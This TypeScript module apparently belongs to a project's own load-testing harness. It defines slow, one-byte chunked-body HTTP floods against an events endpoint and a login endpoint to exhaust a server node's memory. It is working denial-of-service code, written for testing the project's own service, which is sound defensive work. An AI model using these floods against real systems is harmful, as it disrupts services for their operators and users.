import { type Attack, countStatuses, createAssault, type Target } from './attack.ts'

/** One byte of a body, as a chunk on the wire. */
const chunk = '1\r\n \r\n'
const chunksAtOnce = 4096
const many = Buffer.from(chunk.repeat(chunksAtOnce))
const end = Buffer.from('0\r\n\r\n')
/** Pause before the end of a body, milliseconds, to fill the memory of the node. */
const holdMs = 1_500

/** A logged-in user posts events whose bodies come in chunks of one byte. */
export const eventsInChunks: Attack = chunkedBody({
  head: ({ token }) =>
    `POST /events/de.org.hub.v1.radio.track.playing HTTP/1.1\r\nauthorization: Bearer ${token}`,
  bodyBytes: 400_000,
})

/**
 * An anonymous client posts log-ins in chunks of one byte. The node reads up to 4 MiB before it refuses:
 * docs/decisions, "A body that is too long ends its connection".
 */
export const loginInChunks: Attack = chunkedBody({
  head: () => 'POST /auth/login HTTP/1.1',
  bodyBytes: 4 * 1024 * 1024,
})

function chunkedBody(of: { head: (target: Target) => string; bodyBytes: number }): Attack {
  return (target, force) => {
    const assault = createAssault(force)
    const fields = 'host: localhost\r\ncontent-type: application/json\r\ntransfer-encoding: chunked'
    const head = Buffer.from(`${of.head(target)}\r\n${fields}\r\n\r\n`)
    return assault.everywhere(async (worker) => {
      const socket = await assault.connect(target.httpsPort, worker)
      if (!socket) return
      let isAnswered = false
      countStatuses(socket, assault)
      socket.once('data', () => {
        isAnswered = true
      })
      let isGoing = await assault.write(socket, head)
      for (let sent = 0; isGoing && sent < of.bodyBytes && !isAnswered; sent += chunksAtOnce) {
        isGoing = await assault.write(socket, many)
        assault.seen.units += chunksAtOnce
      }
      if (isGoing && !isAnswered) {
        await assault.hold(socket, holdMs)
        if (await assault.write(socket, end)) await assault.hold(socket, 100)
      }
      assault.leave(socket)
    })
  }
}
